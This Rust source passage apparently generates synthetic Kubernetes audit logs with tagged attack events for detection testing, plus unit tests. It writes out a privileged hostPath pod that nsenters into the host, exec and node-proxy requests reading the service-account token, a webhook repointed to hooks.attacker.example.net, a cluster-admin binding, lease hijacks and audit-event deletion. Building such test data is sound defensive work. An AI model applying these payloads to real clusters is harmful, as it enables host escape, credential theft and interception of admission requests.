                        {"id": "gatekeeper-audit-5b7f8c9d4-x2kqp", "enforced": true, "observedGeneration": 1, "operations": ["audit", "status"]}]}}),
                    ),
                    None,
                )
            }
            Body::PolicyReport => (
                "Request",
                Some(
                    json!({"apiVersion": "wgpolicyk8s.io/v1alpha2", "kind": "PolicyReport",
                "metadata": {"name": name, "namespace": ns, "labels": {"app.kubernetes.io/managed-by": "kyverno"}},
                "summary": {"pass": 11 + self.rng.below(3), "fail": self.rng.below(2), "warn": 0, "error": 0, "skip": 0},
                "results": [{"policy": "require-requests-limits", "rule": "validate-resources", "result": "pass", "source": "kyverno"}]}),
                ),
                None,
            ),
            Body::CaBundlePatch => (
                "Request",
                Some(json!([
                {"op": "replace", "path": "/webhooks/0/clientConfig/caBundle", "value": format!("LS0tLS1CRUdJTi{}", self.rng.hex(40))}])),
                None,
            ),
        }
    }

    fn attacks(&mut self) -> Vec<AddonEvent> {
        let at = |min: i64| SignedDuration::from_secs(min * 60 + 17);
        let istiod = self.identity(
            Who::Sa("istio-system", "istiod"),
            0,
            ISTIOD_UA,
            "10.42.3.11",
        );
        let prom = self.identity(
            Who::Sa("monitoring", "prometheus-server"),
            0,
            PROM_UA,
            "10.42.8.14",
        );
        let cainj = self.identity(
            Who::Sa("cert-manager", "cert-manager-cainjector"),
            0,
            CAINJ_UA,
            "10.42.4.22",
        );
        let default_sa =
            self.identity(Who::Sa("default", "default"), 0, "curl/8.5.0", "10.42.11.9");
        let person = |name: &str, groups: &[&str], ip: &str| {
            Rc::new(Identity {
                user: UserInfo { username: name.to_owned(), uid: None, groups: groups.iter().map(|g| (*g).to_owned()).collect(), extra: BTreeMap::new() },
                user_agent: "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46".to_owned(),
                source_ip: ip.to_owned(),
                allow_reason: "RBAC: allowed by ClusterRoleBinding \"oncall-admin\" of ClusterRole \"cluster-admin\" to Group \"oidc:sre\"".to_owned(),
            })
        };
        let alice = person(
            "alice@example.com",
            &["oidc:sre", "system:authenticated"],
            "10.20.3.14",
        );
        let dave = person("dave@example.com", &[], "172.16.4.33");
        let bob = person(
            "bob@example.com",
            &["oidc:developers", "system:authenticated"],
            "10.20.7.201",
        );
        let anon = person(
            "system:anonymous",
            &["system:unauthenticated"],
            "203.0.113.50",
        );
        let node = self.nodes[3].clone();
        let evil_pod = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "debug-node", "namespace": "default"},
            "spec": {"hostPID": true, "hostNetwork": true, "containers": [{"name": "sh", "image": "alpine:3.20",
                "command": ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"],
                "securityContext": {"privileged": true}, "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
                "volumes": [{"name": "host", "hostPath": {"path": "/"}}]}});
        let token = "cat%20%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken";
        type Spec = (
            &'static str,
            Rc<Identity>,
            &'static str,
            String,
            ObjRef,
            &'static str,
            Option<Value>,
            u16,
        );
        let specs: Vec<Spec> = vec![
            ("istiod-crb-cluster-admin", istiod, "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings".into(),
                ObjRef::new("clusterrolebindings", "rbac.authorization.k8s.io").name("istiod-debug"), "RequestResponse",
                Some(json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "istiod-debug"},
                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                    "subjects": [{"kind": "ServiceAccount", "name": "istiod", "namespace": "istio-system"}]})), 201),
            ("prometheus-nodes-proxy-run", prom, "create", format!("/api/v1/nodes/{node}/proxy/run/kube-system/kube-proxy-x7k2p/kube-proxy?cmd={token}"),
                ObjRef::new("nodes", "").name(node.clone()).sub("proxy"), "Metadata", None, 200),
            ("cainjector-webhook-url", cainj, "patch", "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/cert-manager-webhook".into(),
                ObjRef::new("validatingwebhookconfigurations", "admissionregistration.k8s.io").name("cert-manager-webhook"), "RequestResponse",
                Some(json!([{"op": "remove", "path": "/webhooks/0/clientConfig/service"},
                    {"op": "add", "path": "/webhooks/0/clientConfig/url", "value": "https://hooks.attacker.example.net/validate"}])), 200),
            ("privileged-pod-hostpath", alice, "create", "/api/v1/namespaces/default/pods".into(),
                ObjRef::new("pods", "").ns("default").name("debug-node"), "RequestResponse", Some(evil_pod.clone()), 201),
            ("privileged-pod-no-groups", dave, "create", "/api/v1/namespaces/default/pods".into(),
                ObjRef::new("pods", "").ns("default").name("debug-node-2"), "RequestResponse", Some(evil_pod), 201),
            ("exec-sa-token", Rc::clone(&bob), "get", "/api/v1/namespaces/shop/pods/api-7d9f8b6c5d-q2wxz/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=api&stderr=true&stdout=true".into(),
                ObjRef::new("pods", "").ns("shop").name("api-7d9f8b6c5d-q2wxz").sub("exec"), "Metadata", None, 101),
            ("kcm-lease-takeover", Rc::clone(&bob), "update", "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-controller-manager".into(),
                ObjRef::new("leases", "coordination.k8s.io").ns("kube-system").name("kube-controller-manager"), "RequestResponse",
                Some(json!({"apiVersion": "coordination.k8s.io/v1", "kind": "Lease", "metadata": {"name": "kube-controller-manager", "namespace": "kube-system"},
                    "spec": {"holderIdentity": "bobs-laptop_6f2c", "leaseDurationSeconds": 3600}})), 200),
            ("delete-kube-system-events", bob, "deletecollection", "/api/v1/namespaces/kube-system/events".into(),
                ObjRef::new("events", "").ns("kube-system"), "Metadata", None, 200),
            ("leader-lock-hijack", default_sa, "update", "/api/v1/namespaces/istio-system/configmaps/istio-leader".into(),
                ObjRef::new("configmaps", "").ns("istio-system").name("istio-leader"), "RequestResponse",
                Some(json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "istio-leader", "namespace": "istio-system",
                    "annotations": {"control-plane.alpha.kubernetes.io/leader": "{\"holderIdentity\":\"rogue-7b9\",\"leaseDurationSeconds\":3600}"}}})), 200),
            ("anonymous-write", anon, "create", "/api/v1/namespaces/default/configmaps".into(),
                ObjRef::new("configmaps", "").ns("default").name("x"), "RequestResponse",
                Some(json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "x", "namespace": "default"}, "data": {"payload": "ok"}})), 201),
        ];
        specs
            .into_iter()
            .enumerate()
            .map(|(i, (name, who, verb, uri, o, level, body, code))| {
                let mut r = self.request(&who, verb, uri, o, at(4 + 5 * i as i64));
                r.level = level;
                r.status = Status::ok(code);
                r.request_object = body.clone();
                r.response_object = body.filter(|_| level == "RequestResponse" && verb != "patch");
                r.extra_annotations
                    .push((ATTACK_ANNOTATION, name.to_owned()));
                AddonEvent {
                    at: r.received + r.latency,
                    component: "attack",
                    username: who.username().to_owned(),
                    verb,
                    attack: Some(name),
                    json: r.render(StageKind::ResponseComplete),
                }
            })
            .collect()
    }
}

fn secs(s: f64) -> SignedDuration {
    SignedDuration::from_micros((s * 1e6) as i64)
}

/// `/api/v1[/namespaces/NS]/RESOURCE` or `/apis/GROUP/VERSION[/namespaces/NS]/RESOURCE`.
fn collection_uri(group: &str, version: &str, resource: &str, ns: Option<&str>) -> String {
    let mut uri = if group.is_empty() {
        format!("/api/{version}")
    } else {
        format!("/apis/{group}/{version}")
    };
    if let Some(ns) = ns {
        let _ = write!(uri, "/namespaces/{ns}");
    }
    let _ = write!(uri, "/{resource}");
    uri
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_hour_is_deterministic_ordered_and_holds_every_attack_once() {
        let a = hour(7);
        let b = hour(7);
        assert_eq!(a.len(), b.len());
        assert!(a.iter().zip(&b).all(|(x, y)| x.json == y.json));
        assert!(a.windows(2).all(|w| w[0].at <= w[1].at));
        let start = crate::time::utc(2026, 11, 20, 10);
        assert!(
            a.iter()
                .all(|e| e.at >= start && e.at <= start + HOUR + SignedDuration::from_secs(1))
        );
        for (name, _) in ATTACKS {
            let tagged: Vec<_> = a.iter().filter(|e| e.attack == Some(*name)).collect();
            assert_eq!(tagged.len(), 1, "{name}");
            let v: Value = serde_json::from_str(&tagged[0].json).unwrap();
            assert_eq!(v["annotations"][ATTACK_ANNOTATION], *name);
        }
        assert_ne!(hour(8)[0].json, a[0].json);
    }

    #[test]
    fn events_have_the_audit_shape_and_realistic_rates() {
        let events = hour(1);
        for e in events.iter().step_by(97) {
            let v: Value = serde_json::from_str(&e.json).unwrap();
            assert_eq!(v["stage"], "ResponseComplete");
            assert!(v["requestURI"].as_str().unwrap().starts_with("/api"));
            assert!(v["objectRef"]["resource"].is_string());
            assert!(v["sourceIPs"][0].is_string());
            assert!(v["userAgent"].is_string());
        }
        let mix = AddonMix::of(&events);
        // 20 nodes x 2 paths x 120 scrapes.
        assert_eq!(mix.by_component["prometheus"], 4800);
        // cluster-autoscaler: status every 10 s and its lease every 2 s.
        assert_eq!(mix.by_component["cluster-autoscaler"], 360 + 1800);
        let eks: Vec<_> = events
            .iter()
            .filter(|e| e.username.starts_with("eks:"))
            .collect();
        assert!(!eks.is_empty());
        let v: Value = serde_json::from_str(&eks[0].json).unwrap();
        assert!(
            v["user"]["extra"]["arn"][0]
                .as_str()
                .unwrap()
                .starts_with("arn:aws:sts::")
        );
        let gke: Vec<_> = events
            .iter()
            .filter(|e| e.attack == Some("privileged-pod-no-groups"))
            .collect();
        let v: Value = serde_json::from_str(&gke[0].json).unwrap();
        assert_eq!(v["user"]["groups"], json!([]));
    }
}
